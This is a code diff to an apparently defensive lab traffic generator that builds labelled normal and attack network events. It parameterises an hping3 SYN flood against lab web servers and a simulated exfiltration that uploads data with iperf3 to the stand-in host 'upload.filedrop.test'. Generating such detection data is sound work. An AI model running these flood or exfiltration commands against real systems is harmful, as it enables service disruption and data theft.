@@ -95,7 +95,8 @@ class Builder:
                                                                   "10.0.0.21"], length=length)
             # API tier queries the database and, less often, a partner API on the internet (by name)
             for _ in range(poisson(r, 2.5 * inten)):
-                sizes = [str(int(min(300_000, r.lognormvariate(7.5, 1.3)))) for _ in range(r.randint(2, 8))]
+                sizes = [str(max(16, int(min(300_000, r.lognormvariate(7.5, 1.3)) * self.args.volume)))
+                         for _ in range(r.randint(2, 8))]
                 ev(events, self.start(length, 4), ns("api1"), 5,
                    ["{py}", "{here}/services/dbclient.py", "10.0.0.31", "5432", f"{r.uniform(0.02, 0.2):.3f}"] + sizes,
                    length=length)
@@ -134,11 +135,13 @@ class Builder:
         if backup:
             # nightly backup: pull from the tenant's database, push to the external vault (one tenant at a time,
             # the vault's iperf3 server takes one test at a time)
+            vol = self.args.volume
             for i, tenant in enumerate(labdef.TENANTS):
-                mb_pull, mb_push = r.randint(3, 6), r.randint(2, 5)
+                kb_pull = max(64, int(r.randint(3, 6) * 1024 * vol))
+                kb_push = max(64, int(r.randint(2, 5) * 1024 * vol))
                 ev(events, 0.3 + i * 7.0, f"{tenant}-bak1", 6.5,
-                   ["bash", "-c", f"iperf3 -c 10.0.0.31 -p 5201 -R -n {mb_pull}M -b 40M >/dev/null; "
-                                  f"iperf3 -c vault.backup.test -p 5201 -n {mb_push}M -b 40M >/dev/null"],
+                   ["bash", "-c", f"iperf3 -c 10.0.0.31 -p 5201 -R -n {kb_pull}K -b 40M >/dev/null; "
+                                  f"iperf3 -c vault.backup.test -p 5201 -n {kb_push}K -b 40M >/dev/null"],
                    length=length)
         return events
 
@@ -165,14 +168,14 @@ class Builder:
         elif kind == "synflood":
             a = vm["bak1"]
             tgt = remote("web1", "web2")
-            count = 2500
+            count = self.args.flood_count
             argv = ["hping3", "-q", "-S", "-p", "80", "-c", str(count), "-i", "u2000", tgt["ip"]]
             target, notes = f"{tgt['ip']}:80", f"hping3 SYN flood, {count} SYNs at ~500/s, real source address"
         elif kind == "exfil":
             a = vm["db1"]
             mb = self.args.exfil_mb
             argv = ["bash", "-c", "dig +short +time=1 +tries=1 upload.filedrop.test >/dev/null; "
-                                  f"iperf3 -c upload.filedrop.test -p 443 -n {mb}M -b 80M >/dev/null"]
+                                  f"iperf3 -c upload.filedrop.test -p 443 -n {int(mb * 1024)}K -b 80M >/dev/null"]
             target = "203.0.113.77:443"
             notes = f"{mb} MB upload to upload.filedrop.test, never contacted before; NAT public {labdef.TENANTS[tenant][1]}"
         elif kind == "c2":
@@ -283,7 +286,9 @@ def main():
     ap.add_argument("--days-train", type=float, default=3)
     ap.add_argument("--days-eval", type=float, default=2)
     ap.add_argument("--attacks", default=",".join(ATTACK_TYPES))
-    ap.add_argument("--exfil-mb", type=int, default=30)
+    ap.add_argument("--exfil-mb", type=float, default=30)
+    ap.add_argument("--volume", type=float, default=1.0, help="scale of normal transfer sizes (backups, DB rows)")
+    ap.add_argument("--flood-count", type=int, default=2500)
     ap.add_argument("--start-date", default="2025-03-03")
     ap.add_argument("--out", required=True)
     a = ap.parse_args()
